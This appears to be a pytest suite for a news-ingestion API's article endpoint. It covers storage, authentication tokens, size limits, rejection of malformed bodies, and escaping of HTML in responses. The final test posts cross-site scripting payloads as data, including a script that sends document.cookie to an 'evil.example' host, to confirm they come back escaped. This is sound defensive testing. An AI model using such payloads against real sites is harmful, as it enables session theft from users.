"""``POST /api/articles``: one article ingested through the path 'allywatch ingest' takes, then read back; the write
and read tokens; the body cap; bad bodies; and an article's HTML returned as data, never as markup."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from allywatch.api.app import MAX_BODY, create_app
from allywatch.ingest import read_inputs
from allywatch.kb.loader import KnowledgeBase
from allywatch.model import Article
from allywatch.store.repository import Repository
from tests.api.conftest import SETTINGS

K2 = ("Poland signed a contract on Friday with South Korea's Hyundai Rotem for 180 K2 tanks worth $6.5 billion, the "
      "defence ministry in Warsaw said on Friday.")
ARTICLE = {"doc": "k2-deal", "title": "Poland buys K2 tanks", "source": "First Wire",
           "url": "https://first.example/k2", "published": "2025-08-01", "text": K2}


@pytest.fixture
def repo(store_url: str) -> Iterator[Repository]:
    """An empty store: a SQLite file, then PostgreSQL."""
    opened = Repository.open(store_url)
    yield opened
    opened.close()


def _client(repo: Repository, kb: KnowledgeBase, **options: Any) -> TestClient:
    return TestClient(create_app(repo, SETTINGS, kb=kb, **options))


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_a_posted_article_is_stored_and_read_back(repo: Repository, kb: KnowledgeBase) -> None:
    client = _client(repo, kb)
    response = client.post("/api/articles", json=ARTICLE)
    assert response.status_code == 201, response.text
    assert response.headers["location"] == "/api/articles/k2-deal"
    [created] = response.json()["data"]
    assert created["doc"] == "k2-deal" and created["stored"] is True and created["events"] >= 1
    [article] = client.get("/api/articles/k2-deal").json()["data"]
    assert {k: article[k] for k in ("title", "source", "url", "published")} == {
        "title": "Poland buys K2 tanks", "source": "First Wire", "url": "https://first.example/k2",
        "published": "2025-08-01"}
    assert article["text"] == K2 and article["story"] == created["story"]
    [deal] = [e for e in article["events"] if e["type"] == "arms_transfer"]
    assert deal["roles"] == {"supplier": "KOR", "recipient": "POL"}
    assert [K2[s["start"]:s["end"]] for s in deal["evidence"]] == [s["text"] for s in deal["evidence"]] == [K2]
    # consolidated into its story, with the article's URL, as 'allywatch ingest' does
    events = client.get("/api/events", params={"party": ["POL", "KOR"]}).json()
    assert events["count"] == 1
    [source] = events["data"][0]["sources"]
    assert (source["doc"], source["outlet"], source["url"]) == ("k2-deal", "First Wire", "https://first.example/k2")
    assert client.get(f"/api/stories/{created['story']}").json()["data"][0]["articles"][0]["doc"] == "k2-deal"
    # the same text again is not stored twice
    again = client.post("/api/articles", json={**ARTICLE, "doc": "k2-again"})
    assert again.status_code == 200 and again.json()["data"][0]["stored"] is False
    assert again.json()["data"][0]["doc"] == "k2-deal"
    assert repo.count_articles() == 1 and repo.article_docs() == ["k2-deal"]


def test_raw_text_and_html_bodies_are_read_as_ingest_reads_files(repo: Repository, kb: KnowledgeBase,
                                                                  data: Path) -> None:
    client = _client(repo, kb)
    header = (data / "header.txt").read_bytes()
    response = client.post("/api/articles", params={"doc": "italy"}, content=header,
                           headers={"Content-Type": "text/plain; charset=utf-8"})
    assert response.status_code == 201, response.text
    page = (data / "page.html").read_bytes()
    html = client.post("/api/articles", content=page, headers={"Content-Type": "text/html"})
    assert html.status_code == 201, html.text
    [from_file] = [a for a in read_inputs([data / "header.txt", data / "page.html"], SETTINGS)
                   if isinstance(a, Article) and a.doc == "header"]
    [italy] = client.get("/api/articles/italy").json()["data"]
    assert italy["title"] == from_file.title == "Japan and Italy agree to study joint frigate work"
    assert (italy["source"], italy["published"]) == ("Example Defence Wire", "2024-03-01")
    assert italy["text"] == from_file.text
    [norway] = client.get(html.headers["location"]).json()["data"]
    assert norway["doc"].startswith("api-") and norway["title"] == "Norway picks British frigates in big deal"
    assert norway["source"] == "Naval Review" and "Type 26 frigate" in norway["text"]
    assert "cookies" not in norway["text"]  # page furniture removed, as for a saved page
    as_json = client.post("/api/articles", json={"doc": "norway-page", "html": page.decode("utf-8")})
    assert as_json.status_code == 200 and as_json.json()["data"][0]["doc"] == norway["doc"]  # same article
    assert repo.count_articles() == 2


@pytest.mark.parametrize(("body", "headers", "status", "message"), [
    (b"%PDF-1.7", {"Content-Type": "application/pdf"}, 415, "send the article as application/json, text/plain"),
    (b"{not json", {"Content-Type": "application/json"}, 422, "body: Invalid JSON"),
    (b'["a list"]', {"Content-Type": "application/json"}, 422, "body: Input should be an object"),
    (json.dumps({"title": "no text"}).encode(), {"Content-Type": "application/json"}, 422,
     "give the article as 'text' or as 'html'"),
    (json.dumps({"text": K2, "html": "<p>x</p>"}).encode(), {"Content-Type": "application/json"}, 422,
     "give the article as 'text' or as 'html'"),
    (json.dumps({"text": K2, "headline": "typo"}).encode(), {"Content-Type": "application/json"}, 422,
     "headline: Extra inputs are not permitted"),
    (json.dumps({"text": K2 + "\x00"}).encode(), {"Content-Type": "application/json"}, 422,
     "text: Value error, holds a NUL character"),
    (json.dumps({"text": K2, "published": 2025}).encode(), {"Content-Type": "application/json"}, 422,
     "published: Input should be a valid string"),
    (json.dumps({"text": "Too short."}).encode(), {"Content-Type": "application/json"}, 422,
     "the article was rejected: empty article"),
    (K2.encode() + b"\x00\x00", {"Content-Type": "text/plain"}, 422, "the article was rejected: binary content"),
    (b"", {"Content-Type": "text/plain"}, 422, "the article was rejected"),
    (b"<html><body><nav>Home</nav></body></html>", {"Content-Type": "text/html"}, 422,
     "the article was rejected: empty article"),
], ids=["pdf", "broken-json", "json-list", "no-text", "text-and-html", "unknown-key", "nul", "number-date",
        "too-short", "binary", "empty", "no-main-text"])
def test_a_bad_body_is_a_4xx_that_says_why_and_stores_nothing(repo: Repository, kb: KnowledgeBase, body: bytes,
                                                              headers: dict[str, str], status: int,
                                                              message: str) -> None:
    response = _client(repo, kb).post("/api/articles", content=body, headers=headers)
    assert response.status_code == status, response.text
    assert message in response.json()["detail"]
    assert repo.count_articles() == 0


def test_writes_need_the_write_token_when_one_is_set(repo: Repository, kb: KnowledgeBase) -> None:
    client = _client(repo, kb, write_token="s3cret-token")
    for headers in ({}, _bearer("wrong"), _bearer("s3cret-token-and-more"), {"Authorization": "Basic s3cret-token"},
                    {"Authorization": "s3cret-token"}, _bearer("")):
        response = client.post("/api/articles", json=ARTICLE, headers=headers)
        assert response.status_code == 401, headers
        assert response.headers["www-authenticate"].startswith("Bearer")
        assert "token" in response.json()["detail"]
    assert repo.count_articles() == 0
    assert client.get("/api/articles").status_code == 200  # reads stay open
    response = client.post("/api/articles", json=ARTICLE, headers={"authorization": "bearer s3cret-token"})
    assert response.status_code == 201 and repo.count_articles() == 1


def test_a_read_token_closes_reads_too(repo: Repository, kb: KnowledgeBase) -> None:
    client = _client(repo, kb, read_token="reader", write_token="writer")
    for url in ("/api/events", "/api/articles", "/api/stories", "/api/entities", "/api/graph", "/api/timeline",
                "/api/articles/x", "/api/stories/x", "/api/entities/x"):
        assert client.get(url).status_code == 401, url
        assert client.get(url, headers=_bearer("nope")).status_code == 401, url
        assert client.get(url, headers=_bearer("reader")).status_code in {200, 404}, url
        assert client.get(url, headers=_bearer("writer")).status_code in {200, 404}, url
    assert client.get("/docs").status_code == 200  # the schema is no data
    assert client.post("/api/articles", json=ARTICLE, headers=_bearer("reader")).status_code == 401
    assert client.post("/api/articles", json=ARTICLE, headers=_bearer("writer")).status_code == 201
    only_reads = _client(repo, kb, read_token="reader")  # no write token: writes need the read token
    assert only_reads.post("/api/articles", json={**ARTICLE, "text": K2 + " More."}).status_code == 401
    assert only_reads.post("/api/articles", json={**ARTICLE, "text": K2 + " More."},
                           headers=_bearer("reader")).status_code == 201


def test_a_body_over_the_cap_is_a_413(repo: Repository, kb: KnowledgeBase) -> None:
    client = _client(repo, kb)
    big = b"x" * (MAX_BODY + 1)
    for kind in ("text/plain", "application/json"):
        response = client.post("/api/articles", content=big, headers={"Content-Type": kind})
        assert response.status_code == 413 and str(MAX_BODY) in response.json()["detail"]
    small = _client(repo, kb, max_body=len(K2) + 50)

    def chunks() -> Iterator[bytes]:  # no Content-Length: the body is counted as it arrives
        for _ in range(10):
            yield K2.encode()

    response = small.post("/api/articles", content=chunks(), headers={"Content-Type": "text/plain"})
    assert response.status_code == 413 and "over the limit" in response.json()["detail"]
    assert repo.count_articles() == 0
    fits = small.post("/api/articles", content=K2.encode(), headers={"Content-Type": "text/plain"})
    assert fits.status_code == 201 and repo.count_articles() == 1


def test_html_in_an_article_comes_back_as_data_not_markup(repo: Repository, kb: KnowledgeBase) -> None:
    client = _client(repo, kb)
    title = "<script>alert('title')</script> Poland & Korea <b>sign</b>"
    text = K2 + " <script>document.location='https://evil.example/?c='+document.cookie</script> <img src=x>"
    response = client.post("/api/articles", json={"doc": "<img src=x onerror=alert(1)>", "title": title,
                                                  "text": text})
    assert response.status_code == 201, response.text
    doc = response.json()["data"][0]["doc"]
    assert doc == "<img src=x onerror=alert(1)>"
    for url, params in ((response.headers["location"], {}), ("/api/articles", {}), ("/api/events", {"q": "K2"}),
                        ("/api/stories", {}), ("/api/articles/<script>x</script>", {})):
        read = client.get(url, params=params)
        assert read.headers["content-type"] == "application/json"
        assert read.headers["x-content-type-options"] == "nosniff"
        assert b"<" not in read.content and b">" not in read.content, url  # escaped as \u003c and \u003e
    [article] = client.get(response.headers["location"]).json()["data"]
    assert article["title"] == title and article["text"] == text  # the same characters, as data
    assert "\\u003cscript\\u003e" in client.get(response.headers["location"]).text
    assert "<script>x</script>" in client.get("/api/articles/<script>x</script>").json()["detail"]
